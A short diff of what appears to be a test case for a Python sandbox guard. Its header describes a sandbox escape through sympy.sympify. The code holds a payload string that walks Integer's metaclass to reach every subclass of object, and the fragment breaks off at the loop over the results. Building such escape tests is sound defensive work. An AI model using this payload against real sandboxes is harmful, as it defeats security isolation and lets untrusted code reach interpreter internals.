@@ -1,7 +1,7 @@
 # category: imports
 # attack: sympy.sympify evaluates a string with attribute access the guard never sees: type.__dict__['__subclasses__'] to every class, then a function's globals through the __globals__ descriptor
 # profile: data_science
-# run-layer: audit hook
+# run-layer: guard
 import sympy
 e = "Integer.__class__.__class__.__dict__['__subclasses__'](Integer.mro()[-1])"
 for c in sympy.sympify(e, evaluate=False):
